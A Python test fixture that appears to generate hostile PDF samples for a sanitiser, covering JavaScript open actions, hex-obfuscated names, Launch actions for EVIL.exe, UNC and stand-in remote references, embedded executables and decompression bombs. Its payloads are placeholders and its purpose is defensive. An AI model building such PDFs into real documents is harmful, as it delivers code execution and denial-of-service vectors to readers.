"""PDF files that do what no reader asked for: refused, or « EVIL » is gone."""

import zlib
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.files import pdf_bytes


def action(kind: str, **more) -> Dictionary:
    return Dictionary(S=Name(f"/{kind}"), **more)


def script() -> Dictionary:
    return action("JavaScript", JS=String("EVIL()"))


def opening(what):
    def change(pdf):
        pdf.Root.OpenAction = what(pdf)

    return pdf_bytes(change)


def clicking(what, **more):
    """Return a PDF with a link that does this."""

    def change(pdf):
        note = Dictionary(Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=what(pdf), **more)
        pdf.pages[0].Annots = Array([pdf.make_indirect(note)])

    return pdf_bytes(change)


def noting(**note):
    def change(pdf):
        made = {key: value(pdf) if callable(value) else value for key, value in note.items()}
        pdf.pages[0].Annots = Array([Dictionary(Rect=Array([0, 0, 9, 9]), **made)])

    return pdf_bytes(change)


def rooting(**more):
    def change(pdf):
        for name, value in more.items():
            pdf.Root[f"/{name}"] = value(pdf) if callable(value) else value

    return pdf_bytes(change)


def indirect(value):
    """Return a function that keeps a thing, and each in it, apart from where it is named."""

    def make(pdf):
        for name, inner in list(value.items()):
            if name != "/S" or isinstance(inner, Dictionary):
                value[name] = pdf.make_indirect(inner)
        return pdf.make_indirect(value)

    return make


def carried(pdf):
    pdf.attachments["EVIL.exe"] = b"MZ EVIL"


def carried_by_a_page(pdf):
    stream = pdf.make_stream(b"MZ EVIL")
    pdf.pages[0].AF = Array([pdf.make_indirect(Dictionary(Type=Name.Filespec, EF=Dictionary(F=stream)))])


def xfa(pdf):
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp>EVIL</xdp>"))


def xfa_alone(pdf):
    xfa(pdf)
    pdf.Root.NeedsRendering = True


def with_hidden_names() -> bytes:
    """Return a PDF that writes its names with numbers for letters."""
    plain = opening(lambda pdf: script())
    return plain.replace(b"/JavaScript", b"/J#61v#61Script").replace(b"/OpenAction", b"/Open#41ction")


def with_an_earlier_version() -> bytes:
    """Return a PDF whose first version, with a name in it, is still in the file."""
    first = pdf_bytes(lambda pdf: pdf.docinfo.update({"/Author": "EVIL"}))
    return first + pdf_bytes()


def packed_pages(pdf):
    bomb = zlib.compress(b"q Q " * 1_000_000, 1)
    pdf.pages[0].Contents = pikepdf.Stream(pdf, bomb, Filter=Name.FlateDecode)


def packed_twice(pdf):
    bomb = zlib.compress(zlib.compress(b"\0" * 5_000_000, 1))
    pdf.pages[0].Contents = pikepdf.Stream(pdf, bomb, Filter=Array([Name.FlateDecode, Name.FlateDecode]))


def far_stream(pdf):
    pdf.pages[0].Contents = pikepdf.Stream(pdf, b"", F=String("\\\\EVIL\\x"))


def far_form(pdf):
    form = pikepdf.Stream(pdf, b"", Subtype=Name.Form, Ref=Dictionary(F=String("\\\\EVIL\\x")))
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(X=form))


def postscript(pdf):
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(X=pikepdf.Stream(pdf, b"EVIL", Subtype=Name.PS)))


def many_objects(pdf):
    pdf.Root.StructTreeRoot = Dictionary(K=Array([pdf.make_indirect(Array([n])) for n in range(3_000)]))


def in_the_form(pdf):
    field = Dictionary(FT=Name.Tx, T=String("a"), AA=Dictionary(K=script(), F=script()), Subtype=Name.Widget)
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(field)]), CO=Array([]))


def in_an_outline(pdf):
    item = pdf.make_indirect(Dictionary(Title=String("Titre"), A=action("Launch", F=String("EVIL.exe"))))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(First=item, Last=item, Count=1))


def saved(change, **options) -> bytes:
    output = BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        change(pdf)
        pdf.save(output, **options)
    return output.getvalue()


def in_object_streams() -> bytes:
    return saved(
        lambda pdf: pdf.Root.__setitem__("/OpenAction", pdf.make_indirect(script())),
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
    )


HOSTILE = {
    "script at opening": opening(lambda pdf: script()),
    "script kept apart": opening(indirect(script())),
    "script with hidden names": with_hidden_names(),
    "script in an object stream": in_object_streams(),
    "script in a stream": opening(lambda pdf: action("JavaScript", JS=pdf.make_stream(b"EVIL()"))),
    "script of the document": rooting(
        Names=lambda pdf: Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))
    ),
    "script of a page": pdf_bytes(lambda pdf: pdf.pages[0].__setitem__("/AA", Dictionary(O=script()))),
    "script of the document at closing": rooting(AA=lambda pdf: Dictionary(WC=script())),
    "script of a field": pdf_bytes(in_the_form),
    "script after a harmless step": opening(
        lambda pdf: action("GoTo", D=Array([0, Name.Fit]), Next=script())
    ),
    "script after a list of steps": clicking(
        lambda pdf: action("Named", N=Name.NextPage, Next=Array([action("Hide", T=String("a")), script()]))
    ),
    "script of a rendition": clicking(lambda pdf: action("Rendition", OP=0, JS=String("EVIL()"))),
    "program at opening": opening(lambda pdf: action("Launch", F=String("EVIL.exe"))),
    "program at a click": clicking(lambda pdf: action("Launch", Win=Dictionary(F=String("EVIL.exe")))),
    "program at a click, with the face of a paragraph": clicking(
        lambda pdf: action("Launch", F=String("EVIL.exe")), S=Name.P, P=Dictionary()
    ),
    "program in an outline": pdf_bytes(in_an_outline),
    "file of the network": clicking(lambda pdf: action("GoToR", F=String("\\\\EVIL\\share"), D=Array([0]))),
    "articles of another file": clicking(lambda pdf: action("Thread", F=String("\\\\EVIL\\share"), D=0)),
    "something that hangs beside the catalogue": pdf_bytes(
        lambda pdf: pdf.trailer.__setitem__("/Kept", pdf.make_indirect(Dictionary(Author=String("EVIL"))))
    ),
    "file within": clicking(lambda pdf: action("GoToE", F=String("\\\\EVIL\\share"), T=Dictionary())),
    "address of a file": clicking(lambda pdf: action("URI", URI=String("file://EVIL/x"))),
    "script as an address": clicking(lambda pdf: action("URI", URI=String("javascript:EVIL()"))),
    "base of addresses": rooting(URI=lambda pdf: Dictionary(Base=String("file://EVIL/"))),
    "form that is sent": clicking(lambda pdf: action("SubmitForm", F=String("http://EVIL.example"))),
    "data taken in": clicking(lambda pdf: action("ImportData", F=String("//EVIL/x.fdf"))),
    "unknown action": clicking(lambda pdf: action("Unheard", F=String("EVIL"))),
    "menu of the program": clicking(lambda pdf: action("Named", N=Name("/SaveAsEVIL"))),
    "second form": pdf_bytes(xfa),
    "second form alone": pdf_bytes(xfa_alone),
    "file of the document": pdf_bytes(carried),
    "file of a page": pdf_bytes(carried_by_a_page),
    "file of a note": noting(Subtype=Name.FileAttachment, FS=lambda pdf: Dictionary(F=String("EVIL"))),
    "folder of files": rooting(Collection=lambda pdf: Dictionary(D=String("EVIL"))),
    "film": noting(Subtype=Name.RichMedia, RichMediaContent=lambda pdf: Dictionary(EVIL=1)),
    "screen": noting(Subtype=Name.Screen, MK=lambda pdf: Dictionary(EVIL=1)),
    "model": noting(Subtype=Name("/3D"), EVIL=1),
    "sound": noting(Subtype=Name.Sound, EVIL=1),
    "content of another file": pdf_bytes(far_stream),
    "page of another file": pdf_bytes(far_form),
    "program for printers": pdf_bytes(postscript),
    "password": pdf_bytes(encryption=pikepdf.Encryption(owner="EVIL", user="EVIL")),
    "pages that unpack without end": pdf_bytes(packed_pages),
    "pages packed twice": pdf_bytes(packed_twice),
    "objects without end": pdf_bytes(many_objects),
    "name in an earlier version": with_an_earlier_version(),
    "no pdf": b"<html>EVIL %PDF-1.7",
}
